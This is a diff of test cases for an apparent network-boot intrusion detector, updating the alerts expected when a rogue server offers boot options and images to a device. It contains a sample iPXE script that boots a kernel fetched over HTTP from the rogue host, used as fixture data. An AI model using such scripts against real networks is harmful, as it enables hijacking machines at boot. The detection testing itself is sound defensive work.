@@ -27,8 +27,10 @@ SCRIPT = f"#!ipxe\nkernel http://{ROGUE}/vmlinuz\nboot\n".encode()
     with_site=Expect(
         (
             Notice("Rogue_Boot_Options", DEVICE, ROGUE, "boot.ipxe"),
-            Notice("Unauthorized_Boot_Server", DEVICE, ROGUE),
-            hijack(DEVICE, "boot.ipxe"),
+            Notice("Unauthorized_Boot_Server", DEVICE, ROGUE, "/boot.ipxe"),
+            Notice("Unapproved_Image", DEVICE, ROGUE, "/boot.ipxe"),
+            Notice("Unapproved_Image", DEVICE, ROGUE, "/vmlinuz"),
+            hijack(DEVICE, "/boot.ipxe"),
         )
     ),
 )
@@ -54,7 +56,7 @@ def bw30_ipxe_by_http(wire: Wire) -> None:
         (
             Notice("Rogue_Boot_Options", DEVICE, ROGUE, "sw.bin"),
             Notice("Unauthorized_Boot_Server", DEVICE, ROGUE, "sw.bin"),
-            Notice("Unapproved_Image", DEVICE, ROGUE, "sw.bin"),
+            Notice("Downgraded_Image", DEVICE, ROGUE, "sw.bin"),
             hijack(DEVICE, "sw.bin"),
         )
     ),
@@ -71,7 +73,12 @@ def bw30_leased_by_unicast(wire: Wire) -> None:
     "benign",
     raises_with_site=[("BW01", 0, ROGUE, DEVICE)],
     site=HQ,
-    with_site=Expect((Notice("Rogue_Boot_Options", DEVICE, ROGUE, "sw.bin"),)),
+    with_site=Expect(
+        (
+            Notice("Rogue_Boot_Options", DEVICE, ROGUE, "sw.bin"),
+            Notice("Conflicting_Boot_Options", DEVICE, ROGUE, "sw.bin"),
+        )
+    ),
 )
 def bw30_lease_not_followed(wire: Wire) -> None:
     """A rogue offers boot options; the device takes the declared server's lease, and its image."""
